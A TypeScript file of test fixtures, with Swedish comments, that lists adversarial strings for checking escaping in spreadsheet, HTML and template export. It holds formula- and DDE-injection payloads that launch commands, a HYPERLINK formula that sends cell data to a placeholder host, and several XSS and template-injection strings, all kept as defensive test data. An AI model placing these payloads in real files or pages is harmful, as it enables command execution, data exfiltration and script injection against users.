/** Texts that a spreadsheet, a page or a document could take for something else than text, and what must never be lost. */

/** What Excel makes a formula, a number, a day, an error or a truth value of where nobody stops it. */
export const TAKEN_OTHERWISE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"klicka")',
  '=> fler elever',
  '+1+1',
  '+46 372 123 45',
  '-2+3',
  '- en punkt',
  '@SUM(1)',
  '@socialnämnden',
  '\t=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  "'citat'",
  '＝1+1',
  '＠SUM(1)',
  '1/2',
  '1-2',
  '3 mars 2027',
  'April 2027',
  'maj-27',
  '12:30',
  '1E5',
  '0012',
  '50 %',
  '$5',
  '(5)',
  'TRUE',
  'Sant',
  '#N/A saknas',
  '#1',
] as const;

/** What a page, a document or a template could take for its own. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style></textarea><svg onload=alert(1)>',
  '<a href="javascript:alert(1)">klicka</a>',
  'javascript:alert(1)',
  '[klicka](javascript:alert(1)) **fet** `kod`',
  'A & B &amp; &lt;b&gt; &#60; &P &A',
  ']]> <!-- --> <![CDATA[',
  '{name} {{x}} ${x} $& $` $1',
  'HYPERLINK "http://x.example" { PAGE } { DDEAUTO c:\\\\x "/k calc" }',
  'C:\\mapp\\fil "citat" \\" \\u003c',
  'före\u202Eefter\u202C slut',
  '\u200B=1+1',
  '{{=1+1}}',
  '_x0041_ _x000D_',
  'Å A\u030A é 👩‍👧‍👦 𝒻',
] as const;

/** Control characters and halves of pairs: no file can carry them all, and no program is to stop at them. */
export const UNPRINTABLE = ['noll\u0000tecken', 'klocka\u0007 \u001B[31m', 'halv\uD83D slut', '\uDE00halv', 'slut\uFFFE'] as const;
